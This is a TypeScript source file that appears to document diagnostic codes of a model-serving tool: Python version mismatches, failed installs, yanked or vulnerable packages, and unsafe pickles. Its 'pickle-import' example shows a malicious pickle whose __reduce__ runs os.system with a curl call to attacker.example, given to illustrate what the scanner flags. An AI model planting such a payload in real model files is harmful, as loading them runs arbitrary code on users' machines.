import type { Explanation } from './explanation.ts';

/** Codes about the virtualenv, its packages and the model's pickles. */
export const PACKAGE_CODES = {
  'python-unavailable': {
    stage: 'virtualenv',
    means:
      'The model needs the minor version of Python that saved it, this machine does not have it, and uv cannot download it here.',
    example: {
      code: { language: 'yaml', text: '# python_env.yaml of the model\npython: 3.9.18' },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 error python-unavailable Cannot find Python 3.9: this machine has 3.11.7, and uv cannot download it',
    },
    repair:
      'Install it: `uv python install 3.9`, `pyenv install 3.9` or the packages of your system. In a closed network, set UV_PYTHON_INSTALL_MIRROR to a mirror. `npx davit doctor` lists the installed versions.',
  },
  'install-failed': {
    stage: 'virtualenv',
    means:
      'The packages of the lock cannot be installed: the index does not answer, a file has another hash than the lock says, a wheel is damaged, or the disk is full. Or a wheel that the lock says to build (`build_wheels`) cannot be built here, or differs from the one that was proved.',
    example: {
      code: { language: 'sh', text: 'UV_OFFLINE=1 npx davit validate iris' },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 error install-failed Cannot install the packages of the lock: Failed to download `numpy==2.4.6`; Network connectivity is disabled, but the requested data was not found in the cache',
    },
    repair:
      'Connection: set UV_INDEX or HTTPS_PROXY, and try again. Another hash: somebody replaced a published file; find out why before you run `npx davit lock --upgrade iris`. Disk: `npx davit cache --prune`. A wheel with compiled code is the same only with the same compiler and libraries: run `npx davit lock --upgrade iris` on a machine like the one that builds it.',
  },
  'incompatible-packages': {
    stage: 'virtualenv',
    means:
      'Everything is installed, but an installed package says that it needs another version of another one, or fails its own check (`uv pip check`). It would fail later, in a request.',
    example: {
      code: {
        language: 'yaml',
        text: 'davit:\n  served_entities:\n    iris-2:\n      requirements: { add: [numpy==1.26.4] }',
      },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 error incompatible-packages Cannot use the packages together: The package `pandas` requires `numpy>=2.0.0`, but `1.26.4` is installed',
    },
    repair:
      'Change the version of one of the two packages in `davit.served_entities.NAME.requirements`, then lock again.',
  },
  'hardware-mismatch': {
    stage: 'lock',
    means:
      'The lock has packages for GPUs (`nvidia-…`, `torch==…+cu124`), and the workload type of the entity has none: the image and each start are gigabytes larger than they need to be. Or the workload type has a GPU, and the package can only use CPUs.',
    example: {
      code: {
        language: 'yaml',
        text: 'davit:\n  served_entities:\n    iris-2:\n      requirements: { add: [torch==2.9.1] }',
      },
      command: 'davit lock iris',
      says: 'endpoints/iris.yaml:4:7 warning hardware-mismatch Found packages for GPUs in the lock of iris 2, and workload type CPU has none: nvidia-cudnn-cu12 9.10.2.21, nvidia-cublas-cu12 12.8.4.1, nvidia-nccl-cu12 2.27.5 and 12 more, about 2400 MB to download',
    },
    repair:
      'Set UV_INDEX to the index of wheels for CPUs, which is https://download.pytorch.org/whl/cpu for torch, with UV_INDEX_STRATEGY=unsafe-best-match because that index has old versions of other packages too, and add `torch==VERSION+cpu` to `davit.served_entities.NAME.requirements.add`. Or choose a workload_type with a GPU.',
  },
  'package-yanked': {
    stage: 'lock',
    means:
      'The index marks this version as yanked: its authors have withdrawn it, and give a reason. It can still be installed when it is pinned, so this is a warning. A version that the index no longer has cannot be installed on a new machine. The index is queried when packages are resolved, by `davit audit` and `davit lock --check`, and by a review or `davit validate` if a policy asks for vulnerabilities. Its answer is kept for 20 hours; other runs of `validate` repeat it without a query. After an outage the index is queried again when 15 minutes have passed. Packages from an address and wheels that Davit has built are not queried.',
    example: {
      code: {
        language: 'yaml',
        text: 'davit:\n  served_entities:\n    iris-2:\n      requirements: { add: [numpy==2.4.0] }',
      },
      command: 'davit lock iris',
      says: 'endpoints/iris.yaml:4:7 warning package-yanked Found numpy 2.4.0 in the lock of iris 2: its authors have withdrawn this version (Backward compatibility bug)',
    },
    repair: 'Require another version in `davit.served_entities.NAME.requirements.add`, then lock again.',
  },
  'package-built': {
    stage: 'lock',
    means:
      'The endpoint file names the package in `build_wheels`, so Davit builds its wheel from the source distribution of the index, or from the commit that the requirement names (`git+https://…@COMMIT`). That runs code of the package (`setup.py` or its build backend) wherever the wheel is not in the cache: in the sandbox, without network. The lock has the hash of the source distribution or the commit, the hash of everything that is installed for the build, and of the wheel. It is a warning, unless `policy.built_package` of an environment says otherwise.',
    example: {
      code: {
        language: 'yaml',
        text: 'davit:\n  served_entities:\n    iris-2:\n      build_wheels: [docopt]',
      },
      command: 'davit lock iris',
      says: 'endpoints/iris.yaml:4:7 warning package-built Found docopt 0.6.2 in the lock of iris 2: Davit builds its wheel from the source distribution, which runs code of the package in the sandbox',
    },
    repair:
      'Nothing, if the package is one that you trust. Otherwise choose a version that has a wheel, or log the model with a wheel of your own in `code_paths`, and remove the package from `build_wheels`.',
  },
  'module-missing': {
    stage: 'lock',
    means:
      'The code of the model, or a pickle in it, imports a module that no package of the lock contains. It worked in the notebook because the module was installed there. Davit reads this in the files, before anything is installed. It is an error if the import certainly runs when the model is loaded, and a warning if it is inside a function, a condition or a `with`, because then it runs later, or never. It is also a warning if the code can change where Python looks for modules (`sys.path`, `exec`, `import_module`), or if Davit cannot read a file of the code or a package.',
    example: {
      code: { language: 'python', text: '# code/features.py\nimport humanize' },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 error module-missing Cannot load iris 2 without module "humanize": code/features.py:1:1 imports it, and no package of the lock provides it',
    },
    repair:
      'Add the package to `davit.served_entities.NAME.requirements.add` and lock again. If the module is a file of your own, log the model again with `code_paths`. An import that may fail belongs in `try: … except ImportError`, which Davit then skips. `policy.missing_module: warning` of an [environment](../environments.md) leaves the decision to the proof.',
  },
  'pickle-import': {
    stage: 'proof',
    means:
      'A pickle runs code when it is loaded. This one imports something outside the packages of its lock and its own code, such as `os` or `subprocess`: a mistake, or an attack.',
    example: {
      code: {
        language: 'python',
        text: 'class Model:\n    def __reduce__(self):\n        return os.system, ("curl https://attacker.example",)',
      },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 warning pickle-import Cannot trust model.pkl of iris 2: loading it imports posix.system, expected only its packages and its code',
    },
    repair:
      'Ask the author of the model what it is for. Save the model without it, or in a format without pickles (skops, ONNX, XGBoost JSON). DAVIT_PICKLES=error, or `policy.pickles: error` of an [environment](../environments.md), makes it stop the review: [security](../security.md).',
  },
  'pickle-unreadable': {
    stage: 'proof',
    means:
      'The scan could not follow the pickle to its end, because it is damaged, compressed in an unknown way, too large or too deep. What loading it would import is not known.',
    example: {
      code: { language: 'python', text: 'joblib.dump(model, "model.pkl", compress=("lz4", 3))' },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 warning pickle-unreadable Cannot scan model.pkl of iris 2 to its end: its compression is not known',
    },
    repair: 'Save the model uncompressed, or in a format without pickles, and log it again.',
  },
  'vulnerable-package': {
    stage: 'lock',
    means:
      'A locked package has a known vulnerability, and you asked to hear about it (DAVIT_ADVISORIES, or `policy.vulnerabilities` of an environment). From the severity that you set it is an error, below it a warning.',
    example: {
      code: { language: 'sh', text: 'DAVIT_ADVISORIES=high npx davit validate iris' },
      command: 'davit audit iris',
      says: 'endpoints/iris.yaml:4:7 error vulnerable-package Cannot trust pillow 9.0.0 of iris 2: PYSEC-2022-42979 (CVE-2022-22817), severity critical',
    },
    repair:
      'Raise the requirement to the version of the hint, or run `npx davit lock --upgrade iris`. If it does not concern the model, ignore its id, with the reason, as [security](../security.md) says.',
    check: 'davit audit iris',
  },
  'advisories-missing': {
    stage: 'lock',
    means:
      'Vulnerabilities are to be checked (DAVIT_ADVISORIES is set, or `policy.vulnerabilities` of an environment), but this machine has no database of advisories and cannot download one. A preview and a deployment after a merge only warn.',
    example: {
      code: { language: 'sh', text: 'DAVIT_ADVISORIES=high npx davit validate iris' },
      command: 'davit validate iris',
      says: 'endpoints/iris.yaml:4:7 error advisories-missing Cannot check the packages of iris 2 for vulnerabilities: there is no database of advisories',
    },
    repair:
      'Run `npx davit audit` where there is internet. In a closed network, download the OSV export of PyPI elsewhere and import it: `npx davit audit --database FILE`.',
  },
} as const satisfies Readonly<Record<string, Explanation>>;
